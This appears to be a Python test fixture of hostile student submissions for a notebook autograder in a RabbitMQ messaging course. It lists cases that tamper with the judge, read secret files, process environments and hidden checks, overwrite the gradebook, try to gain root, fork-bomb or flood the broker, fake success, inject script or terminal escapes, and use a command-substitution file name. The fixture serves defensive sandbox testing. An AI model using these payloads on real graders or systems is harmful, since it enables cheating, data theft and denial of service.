"""Hostile submissions. None of them does the work; each is to earn nothing, reach nothing and end.

In their cells @SECRET@ is the path of a file that nobody may read, @OTHER@ that of another student's notebook,
@MARKS@ that of a gradebook, @SOLUTION@ the solution's, @PORT@ the port of a server that nobody may reach, @HOST@ an
address of this machine that is not loopback.
"""

from __future__ import annotations

from .notebooks import Case, Notebook

KEYS = '["waiting", "held", "waiting after", "redelivered", "deliveries", "first back"]'
WRONG = f"prediction = dict.fromkeys({KEYS}, 1)\n"
SERVE = "from classroom.ledger import ledger\nfrom postoffice import Retry, event_pattern, message_pattern\n"
FIRST = "%%service payments --on rabbit --delivery at-least-once\n"
TELL = "raise SystemExit(repr({}))\n"
HANDLER = '@event_pattern("order.placed")\nasync def charge(data):\n    '
DRIVER_SOCKET = """
import socket, os
def wires():
    for fd in range(3, 60):
        try:
            one = socket.socket(fileno=os.dup(fd))
            if one.family == socket.AF_UNIX: yield one
        except OSError: pass
"""


def predict(name: str, source: str, short: bool = False) -> Case:
    """An attack on a prediction, in the cell that makes it."""
    return Case(name, "05.predict", {"predict": source}, short=short)


def post(name: str, source: str, short: bool = False) -> Case:
    """An attack on a function."""
    return Case(name, "05.confirm", {"confirm": source}, short=short)


def service(name: str, body: str, first: str = FIRST, short: bool = False) -> Case:
    """An attack on a service."""
    return Case(name, "05.ack", {"ack": first + body}, short=short)


def raw(name: str, data: bytes) -> Case:
    """A file that is no notebook."""
    return Case(name, "05.predict", change=lambda _: data, unread=True)


def gate(words: str) -> str:
    """Speak to the gate."""
    return (
        'import socket\ns = socket.socket(socket.AF_UNIX); s.connect("/gate/socket"); s.settimeout(3)\n'
        f's.sendall(b"{words}\\n" + b"hello " * 9)\ntry: seen = s.recv(99)\nexcept OSError as error: seen = error\n'
    )


def big_output(made: Notebook) -> None:
    made["cells"][1]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 200_000_000}]


def prose(made: Notebook) -> None:
    why = next(one for one in made["cells"] if one["id"] == "why")
    why["source"] = "<script>alert(1)</script>\x1b]0;owned\x07\x1b[2J\u202e<img src=x onerror=alert(1)>"


KERNEL = [
    predict("values that equal everything", f"""
class Yes:
    def __eq__(self, other): return True
    def __hash__(self): return 0
prediction = {{one: Yes() for one in {KEYS}}}""", short=True),
    predict("numbers that equal everything", f"""
class Yes(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
prediction = {{one: Yes(3) for one in {KEYS}}}"""),
    predict("a mapping that answers as it is asked", """
class Any(dict):
    def __contains__(self, key): return True
    def __getitem__(self, key): return key
prediction = Any(waiting=1)"""),
    predict("patched builtins", f"import builtins\nbuiltins.type = lambda one: int\nbuiltins.all = lambda _: True\n{WRONG}"),
    predict("an input transformer", f"get_ipython().input_transformers_post.append(lambda lines: ['pass'])\n{WRONG}"),
    predict("an AST transformer that deletes checks", f"get_ipython().ast_transformers.append(object())\n{WRONG}"),
    predict("a patched judge", f"""
try:
    from classroom.checks import result
    result.Condition.passed = result.Result.passed = True
except Exception: pass
{WRONG}"""),
    predict("a patched interpreter: sitecustomize in /tmp", f"open('/tmp/sitecustomize.py', 'w').write('pass')\n{WRONG}"),
    predict("answers forged on the driver's wire", DRIVER_SOCKET + f"""
for one in wires():
    for n in range(1, 99):
        one.send(b'{{"id": %d, "answer": ["d", [["is", "value"], ["value", 7]]]}}\\n' % n)
{WRONG}"""),
    predict("a flood on the driver's wire", DRIVER_SOCKET + f"for one in wires():\n    one.sendall(b'[' * 50_000_000)\n{WRONG}"),
    predict("the driver is killed", "import os\nos._exit(0)\n"),
    predict("a cell without an end", "while True: pass\n"),
    predict("a compiler bomb", "prediction = " + "-" * 200_000 + "1\n"),
    predict("a deep answer", "prediction = []\nfor _ in range(90000): prediction = [prediction]\n"),
    predict("a large answer", f"prediction = dict.fromkeys({KEYS}, 'x' * 30_000_000)\n"),
    Case("imports the judge's reference", "03.framing", {"framing": """
from classroom.checks.lab03.framing import frame as encode
class Decoder:
    feed = lambda self, data: []
"""}),
    post("forged replies to every question", DRIVER_SOCKET + """
async def post(exchange, key, body, patience):
    for one in wires():
        for n in range(1, 99):
            one.send(b'{"id": %d, "answer": ["d", [["value", ["l", ["it said", "stored", 0]]], ["kind", ""], ["error", ""]]]}\\n' % n)
    return "stored"
"""),
    post("knows the public case by heart", """
async def post(exchange, key, body, patience):
    if key == "oder.placed": return "nobody"
    return "stored" if patience > 1 else "unknown"
"""),
    post("sleeps past every limit", "import time\nasync def post(exchange, key, body, patience):\n    time.sleep(9999)\n"),
    post("patches aio-pika", """
import aio_pika
aio_pika.Exchange.publish = lambda *a, **k: None
async def post(exchange, key, body, patience): return "stored"
"""),
]  # fmt: skip

READS = [
    predict("reads the solution", """
import json
cells = json.load(open("@SOLUTION@"))["cells"]
exec("".join(next(one["source"] for one in cells if one["id"] == "predict")))""", short=True),
    predict("hunts the disk for solutions", """
import glob
found = [open(one).read() for one in glob.glob("/**/*rabbitmq*.ipynb", recursive=True)]
prediction = {"waiting": found}"""),
    service("reads a secret file", TELL.format('open("@SECRET@").read()'), short=True),
    service("reads another's work", TELL.format('open("@OTHER@").read()')),
    service("reads the environment of all processes", "import glob\n" + TELL.format(
        '[open(one, "rb").read()[-3000:] for one in glob.glob("/proc/[0-9]*/environ") if __import__("os").access(one, 4)]')),
    service("reads the memory of its parent", TELL.format('open("/proc/1/mem", "rb").read(10)')),
    service("reads the hidden checks", TELL.format(
        '[open(one).read() for one in __import__("glob").glob("/**/grading/hidden/*", recursive=True)][0]')),
    service("links to a secret in its place", "import os\nos.symlink('@SECRET@', '/tmp/x')\n" + TELL.format("open('/tmp/x').read()")),
    service("asks for a file as its .proto", "pass\n", "%%service payments --on grpc --proto @SECRET@\n"),
]  # fmt: skip

WRITES = [
    service("writes the gradebook", 'open("@MARKS@", "w").write("100")\n', short=True),
    service("writes into the course's packages", 'import classroom\nopen(classroom.__file__, "a").write("#")\n'),
    service(
        "mounts, unshares, becomes root",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
got = [libc.unshare(0x10000000), libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), libc.setuid(0), os.getuid()]
os.system("mount -o remount,rw / ; echo 100 > @MARKS@")
raise SystemExit(str(got))
""",
    ),
    service("kills all it can see", "import os, signal\nos.kill(-1, signal.SIGKILL)\n"),
]

NETWORK = [
    service("calls a server of this machine", TELL.format('__import__("socket").create_connection(("127.0.0.1", @PORT@), 3)')),
    service("calls this machine by its other address", TELL.format('__import__("socket").create_connection(("@HOST@", @PORT@), 3)')),
    service("sends datagrams out", """
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for host in ("@HOST@", "192.0.2.1", "127.0.0.1"):
    try: s.sendto(b"out", (host, @PORT@))
    except OSError: pass
raise SystemExit(1)
"""),
    service("asks the gate for a server", gate("out @PORT@") + TELL.format("seen"), short=True),
    service("asks the gate for the ledger's other address", """
import os, socket
own, seen = int(os.environ["LEDGER_URL"].rpartition(":")[2]), []
for port in range(1, 65536, 7):
    s = socket.socket(socket.AF_UNIX); s.connect("/gate/socket"); s.sendall(b"out %d\\n" % port); s.close()
raise SystemExit(1)
"""),
    service("plays the grader's own part at the gate", gate("control") + gate("ask") + gate("in 1 open") + TELL.format("seen")),
    service("floods the gate", 'import socket\nfor _ in range(400):\n    s = socket.socket(socket.AF_UNIX)\n'
        '    s.connect("/gate/socket"); s.sendall(b"x" * 100_000); globals().setdefault("kept", []).append(s)\n'),
    service("manages the broker as guest", """
import asyncio, aio_pika, sys
url = sys.argv[sys.argv.index("--url") + 1]
port = url.rpartition(":")[2].partition("/")[0]
async def main():
    async with await aio_pika.connect(f"amqp://guest:guest@127.0.0.1:{port}/") as one:
        await (await one.channel()).declare_queue("owned")
asyncio.run(main())
"""),
    service("enters another virtual host", """
import asyncio, aio_pika, sys
url = sys.argv[sys.argv.index("--url") + 1]
asyncio.run(aio_pika.connect(url.rpartition("/")[0] + "/%2F"))
"""),
]  # fmt: skip

FORGED = [
    service("acknowledges, and does nothing", SERVE + HANDLER + "pass\n", short=True),
    service("acknowledges first, works later", "import asyncio\n" + SERVE + "kept = set()\n" + HANDLER
        + 'kept.add(asyncio.create_task(ledger.charge(data["id"], amount=data["total"])))\n'),
    service("works later, and tries again", "import asyncio\n" + SERVE + """
async def work(data):
    while True:
        try: return await ledger.charge(data["id"], amount=data["total"])
        except Exception: await asyncio.sleep(0.02)
kept = set()
""" + HANDLER + "kept.add(asyncio.create_task(work(data)))\n"),
    service("charges twice, the second time under another's name", SERVE + HANDLER + """await ledger.charge(data["id"], amount=data["total"])
    import os
    os.environ["CLASSROOM_SERVICE"] = "somebody else"
    await ledger.charge(data["id"], amount=data["total"])
    os.environ["CLASSROOM_SERVICE"] = "payments"
"""),
    service("charges what it guesses", "import asyncio\n" + SERVE + """
async def guess():
    for n in range(300): await ledger.charge(n, amount=10)
""" + HANDLER + "await guess()\n"),
    service("skips the crash it is told of", "import os\nfrom postoffice import points\npoints.watchers.clear()\n"
        "points.reached = lambda *a: None\nos.environ.pop('CLASSROOM_CRASHES', 0)\n" + SERVE + HANDLER + "pass\n"),
    service("says that it is ready, and is not", """
import os, time
for fd in range(3, 30):
    try: os.write(fd, b'{"url": "x", "pid": 1, "handlers": []}\\n')
    except OSError: pass
print("payments is ready on amqp://127.0.0.1"); time.sleep(9999)
"""),
    service("says that it is ready, in nonsense", """
import os, time
for fd in range(3, 30):
    try: os.write(fd, b'{"handlers": [{"route": {"a": [1e999]}, "delays": ["x"], "dead_letter": 5}]}\\n')
    except OSError: pass
time.sleep(9999)
"""),
    service("logs and spans of work that was not done", SERVE + HANDLER
        + 'print("charged", data["id"], "{\\"outcome\\": \\"effect\\"}")\n'),
    service("buries every letter instead", SERVE + "from postoffice import PermanentError\n" + HANDLER + 'raise PermanentError("no")\n'),
    service("deletes its queue", SERVE + """
import aio_pika, sys
url, name = (sys.argv[sys.argv.index(one) + 1] for one in ("--url", "--name"))
""" + HANDLER + """async with await aio_pika.connect(url) as one:
        await (await one.channel()).queue_delete(name)
"""),
]  # fmt: skip

BOMBS = [
    service("a fork bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n", short=True),
    service("a thread bomb", "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(999,)).start()\n"),
    service("a memory bomb", "kept = []\nwhile True: kept.append(bytearray(30_000_000))\n"),
    post("a memory bomb in a function", "async def post(exchange, key, body, patience):\n    return [0] * 10**10\n"),
    service("a disk bomb", """
import os
for folder in ("/tmp", "/dev/shm", "/", "/dev"):
    try:
        for n in range(100): open(f"{folder}/{n}", "wb").write(bytes(20_000_000))
    except OSError: pass
raise SystemExit(1)
"""),
    service("a flood of output", "while True: print('x' * 10_000)\n"),
    service("a bomb of messages to the broker", SERVE + """
import aio_pika, asyncio, sys
async def flood():
    async with await aio_pika.connect(sys.argv[sys.argv.index("--url") + 1]) as one:
        channel = await one.channel(publisher_confirms=False)
        while True: await channel.default_exchange.publish(aio_pika.Message(bytes(1_000_000)), "payments")
asyncio.run(flood())
"""),
    service("orphans that outlive it", """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: time.sleep(9999)
    os._exit(0)
raise SystemExit(1)
""", short=True),
    service("will not end", "import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(9999)\n"),
    service("stops itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n"),
    service("thirty-two replicas", SERVE + HANDLER + "pass\n", FIRST.replace("\n", " --replicas 32\n")),
    service("works for a broker elsewhere", SERVE + HANDLER + "pass\n", "%%service payments --on amqp://@HOST@:@PORT@\n"),
]  # fmt: skip

FILES = [
    raw("not JSON at all", b"\x89PNG\r\n" * 100),
    raw("brackets without an end", b"[" * 20_000_000),
    raw("JSON that is no notebook", b'{"cells": {"a": 1}}'),
    raw("an empty file", b""),
    raw("cells of 90 MB", b'{"cells": [' + (b'{"cell_type":"code","source":"' + b"x" * 100_000 + b'"},') * 900 + b"1]}"),
    Case("a notebook of 200 MB", "05.predict", {"predict": WRONG}, change=big_output),
    Case("scripts and escapes in the prose", "05.why", change=prose),
    service("scripts and escapes in its last words", r'raise SystemExit("<script>alert(1)</script>\x1b[2J\x1b]0;x\x07\u202e")' + "\n"),
    Case("a name full of tricks", "05.predict", {"predict": WRONG}, file="..\x1b[31m\n$(id);`id`<b>.ipynb"),
]  # fmt: skip

ATTACKS = [*KERNEL, *READS, *WRITES, *NETWORK, *FORGED, *BOMBS, *FILES]
